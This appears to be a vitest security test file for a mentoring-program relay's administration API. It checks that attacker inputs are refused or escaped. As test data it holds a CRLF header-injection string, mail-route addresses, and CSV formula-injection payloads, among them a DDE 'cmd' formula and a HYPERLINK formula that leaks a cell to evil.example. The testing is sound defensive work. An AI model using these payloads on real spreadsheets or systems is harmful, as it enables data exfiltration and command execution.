import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { emailsOf } from '../../src/program/program.repository.js';
import { removeDir, startTestRelay, type TestRelay } from '../helpers/relay.js';
import { WebSession } from '../helpers/web-session.js';

// What an attacker tried against program administration, each answered as a user would want.

const REX = { email: 'rex@program.example', name: 'Rex Reviewer', password: 'reviewer pass 123' };

let t: TestRelay;
let base: string;

beforeEach(async () => {
  t = await startTestRelay();
  base = `http://127.0.0.1:${t.relay.httpPort}`;
});

afterEach(async () => {
  await t.stop();
  removeDir(t.dir);
});

async function program() {
  const school = (await t.api('POST', '/api/organizations', { name: 'Lincoln High', kind: 'school' })).body;
  const sue = (await t.api('POST', '/api/people', { name: 'Sue School', email: 'sue@school.example', role: 'staff', organizationId: school.id })).body;
  const pat = (await t.api('POST', '/api/people', { name: 'Pat Protege', email: 'pat@school.example', role: 'protege', organizationId: school.id })).body;
  const morgan = (await t.api('POST', '/api/people', { name: 'Morgan Mentor', email: 'morgan@corp.example', role: 'mentor' })).body;
  const mallory = (await t.api('POST', '/api/people', { name: 'Mallory', email: 'mallory@outside.example', role: 'mentor' })).body;
  return { school, sue, pat, morgan, mallory };
}

describe('program administration under attack', () => {
  it('sends a login whose next address is not a plain URL path to the queue, and keeps running', async () => {
    await t.relay.services.staff.create({ ...REX, role: 'reviewer' });
    for (const next of ['/program?\r\nX-Injected: yes', '/review?q=✓']) {
      const s = new WebSession(base);
      await s.get('/login');
      const res = await s.post('/login', { email: REX.email, password: REX.password, next });
      expect(res.status, JSON.stringify(next)).toBe(303);
      expect(res.location, JSON.stringify(next)).toBe('/review');
    }
    expect((await fetch(`${base}/healthz`)).status).toBe(200);
  });

  it('gives a protégé one mentor at a time: a second open pair is refused', async () => {
    const { pat, morgan, mallory } = await program();
    expect((await t.api('POST', '/api/pairs', { mentorId: morgan.id, protegeId: pat.id })).status).toBe(201);
    const second = await t.api('POST', '/api/pairs', { mentorId: mallory.id, protegeId: pat.id });
    expect(second.status).toBe(409);
    expect(second.body.error).toMatchObject({ code: 'protege_paired', message: 'Pat Protege already has a mentor in pair 1; close that pair first' });
    expect((await t.api('GET', '/api/pairs')).body.items).toHaveLength(1);
    // Once the first pair is closed, a new mentor may be matched.
    await t.api('PATCH', '/api/pairs/1', { status: 'closed' });
    expect((await t.api('POST', '/api/pairs', { mentorId: mallory.id, protegeId: pat.id })).status).toBe(201);
  });

  it('ends an account’s sessions when it is disabled: enabling it again revives none', async () => {
    const admin = await t.relay.services.staff.create({ email: 'ada@program.example', name: 'Ada Admin', password: 'admin password 123', role: 'admin' });
    const col = await t.relay.services.staff.create({ email: 'col@program.example', name: 'Col Coordinator', password: 'coordinator pass 1', role: 'coordinator' });
    const session = await WebSession.logIn(base, 'col@program.example', 'coordinator pass 1');
    expect((await session.get('/program')).status).toBe(200);
    await t.relay.services.staff.disable(col.id, admin.id);
    await t.relay.services.staff.enable(col.id);
    const after = await session.get('/program');
    expect(after.status).toBe(303);
    expect(after.location).toMatch(/^\/login/);
  });

  it('gives a staff account neither an address at the relay’s domain nor a participant’s', async () => {
    const { pat } = await program();
    const alias = await t.api('POST', '/api/users', { email: 'pair-abcdefghij@relay.test', name: 'X', role: 'coordinator', password: 'long enough pw' });
    expect(alias.status).toBe(400);
    expect(alias.body.error.field).toBe('email');
    const child = await t.api('POST', '/api/users', { email: pat.email, name: 'Pat Again', role: 'coordinator', password: 'long enough pw' });
    expect(child.status).toBe(409);
    expect(child.body.error).toMatchObject({ code: 'participant_address', message: `${pat.email} belongs to Pat Protege, a protege of the program; a staff account needs an address of its own` });
  });

  it('never opens a closed pair again, not even as a new alias', async () => {
    const { pat, morgan } = await program();
    const first = (await t.api('POST', '/api/pairs', { mentorId: morgan.id, protegeId: pat.id })).body;
    await t.api('PATCH', `/api/pairs/${first.id}`, { status: 'closed' });
    const again = await t.api('POST', '/api/pairs', { mentorId: morgan.id, protegeId: pat.id });
    expect(again.status).toBe(409);
    expect(again.body.error).toMatchObject({ code: 'pair_closed', message: `these two formed pair ${first.id}, which is closed; a closed pair is never opened again` });
    expect((await t.api('GET', '/api/pairs')).body.items.map((p: { status: string }) => p.status)).toEqual(['closed']);
  });

  it('refuses names with control characters and a second organization that differs only in case or spacing', async () => {
    await program();
    const named = await t.api('POST', '/api/people', { name: 'Esc\u001b[2JName', email: 'esc@school.example', role: 'staff' });
    expect(named.status).toBe(400);
    expect(named.body.error.field).toBe('name');
    expect((await t.api('POST', '/api/responsibilities', { task: 'ring\u0007 the bell' })).body.error.field).toBe('task');
    const twin = await t.api('POST', '/api/organizations', { name: 'LINCOLN   high', kind: 'school' });
    expect(twin.status).toBe(409);
    expect(twin.body.error).toMatchObject({ code: 'organization_exists', message: 'there is already an organization named Lincoln High (id 1)' });
  });

  it('makes only staff responsible for a task: a protégé’s address never goes on the sheet', async () => {
    const { school, sue, pat } = await program();
    const minor = await t.api('PUT', '/api/responsibilities/2', { organizationId: school.id, personId: pat.id });
    expect(minor.status).toBe(422);
    expect(minor.body.error.field).toBe('personId');
    expect(minor.body.error.message).toBe(`personId: person ${pat.id} (Pat Protege) is a protege; only staff of an organization can be responsible for a task`);
    expect((await t.api('PUT', '/api/responsibilities/2', { organizationId: school.id, personId: sue.id })).status).toBe(200);
    expect((await t.api('GET', '/api/responsibilities/sheet?format=csv')).body).not.toContain('pat@school.example');
  });

  it('keeps a responsible person in their organization until their tasks go to someone else', async () => {
    const { school, sue } = await program();
    const corp = (await t.api('POST', '/api/organizations', { name: 'Acme Corp', kind: 'company' })).body;
    await t.api('PUT', '/api/responsibilities/11', { organizationId: school.id, personId: sue.id });
    const move = await t.api('PATCH', `/api/people/${sue.id}`, { organizationId: corp.id });
    expect(move.status).toBe(409);
    expect(move.body.error.code).toBe('responsible_person');
    expect(move.body.error.message).toMatch(/^Sue School is responsible for 1 task of their organization \(11\. performing background checks on potential mentors\)/);
    // Retiring the task does not free her: restored, it would name her for an organization she left.
    await t.api('PATCH', '/api/responsibilities/11', { retired: true });
    expect((await t.api('PATCH', `/api/people/${sue.id}`, { organizationId: corp.id })).status).toBe(409);
    await t.api('PATCH', '/api/responsibilities/11', { retired: false });
    await t.api('PUT', '/api/responsibilities/11', { organizationId: null, personId: null });
    expect((await t.api('PATCH', `/api/people/${sue.id}`, { organizationId: corp.id })).status).toBe(200);
  });

  it('escapes cells a spreadsheet would run as formulas in every CSV it gives', async () => {
    const { school } = await program();
    const evil = (await t.api('POST', '/api/people', { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: 'evil@school.example', role: 'staff', organizationId: school.id })).body;
    const task = (await t.api('POST', '/api/responsibilities', { task: "=cmd|' /C calc'!A0" })).body;
    await t.api('PUT', `/api/responsibilities/${task.id}`, { organizationId: school.id, personId: evil.id });
    const csv = (await t.api('GET', '/api/responsibilities/sheet?format=csv')).body as string;
    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv.split('\n').some((line) => /(^|,)"?=/.test(line))).toBe(false);
  });

  it('refuses addresses with control characters, mail routes, or at the relay’s own subdomains', async () => {
    for (const email of ['nul\u0000x@ctl.example', 'bell\u0007@ctl.example', 'victim%evil.example@ctl.example', 'x@sub.relay.test']) {
      const res = await t.api('POST', '/api/people', { name: 'X', email, role: 'staff' });
      expect(res.status, JSON.stringify(email)).toBe(400);
      expect(res.body.error.field, JSON.stringify(email)).toBe('email');
    }
    const csv = 'name,email,role\nX,x@sub.relay.test,staff\n';
    const imported = await fetch(`${base}/api/import/people`, { method: 'POST', headers: { authorization: `Bearer ${t.relay.config.adminToken}`, 'content-type': 'text/csv' }, body: csv });
    expect((await imported.json()).errors).toEqual([expect.objectContaining({ line: 2, field: 'email' })]);
  });

  it('sends the sheet at most five times an hour, then answers 429 with a sentence', async () => {
    await program();
    for (let i = 0; i < 5; i++) expect((await t.api('POST', '/api/responsibilities/send')).status).toBe(202);
    const sixth = await t.api('POST', '/api/responsibilities/send');
    expect(sixth.status).toBe(429);
    expect(sixth.body.error.message).toBe('The sheet was sent 5 times in the last hour; try again later.');
    t.clock.advance(3_600_001);
    expect((await t.api('POST', '/api/responsibilities/send')).status).toBe(202);
  });

  it('takes JSON bodies as they are: 0, true or "1" is not an organization id', async () => {
    const { school } = await program();
    for (const organizationId of [0, true, '1', [1]]) {
      const res = await t.api('PUT', '/api/responsibilities/1', { organizationId, personId: null });
      expect(res.status, JSON.stringify(organizationId)).toBe(400);
      expect(res.body.error.field).toBe('organizationId');
    }
    expect((await t.api('GET', '/api/responsibilities')).body.items[0].organizationId).toBeNull();
    expect((await t.api('PUT', '/api/responsibilities/1', { organizationId: school.id, personId: null })).status).toBe(200);
    // Query strings and path parameters are text, and still read as numbers.
    expect((await t.api('GET', `/api/people/${school.id}`)).status).not.toBe(400);
    expect((await t.api('GET', '/api/messages?limit=5')).status).toBe(200);
  });

  it('refuses a CSV of more lines than a spreadsheet has, before reading it', async () => {
    const csv = `name,email,role\n${',,\n'.repeat(60_000)}`;
    const res = await fetch(`${base}/api/import/people?dryRun=true`, { method: 'POST', headers: { authorization: `Bearer ${t.relay.config.adminToken}`, 'content-type': 'text/csv' }, body: csv });
    expect((await res.json()).errors).toEqual([{ line: 1, field: 'file', message: 'the file has more than 50,000 lines; split it into smaller files' }]);
  });

  it('reads the addresses of any number of people (in chunks, not one query of 40,000 variables)', async () => {
    const ids = Array.from({ length: 40_000 }, (_, i) => i + 1);
    await expect(emailsOf(t.relay.services.db, ids)).resolves.toEqual([]);
  });
});
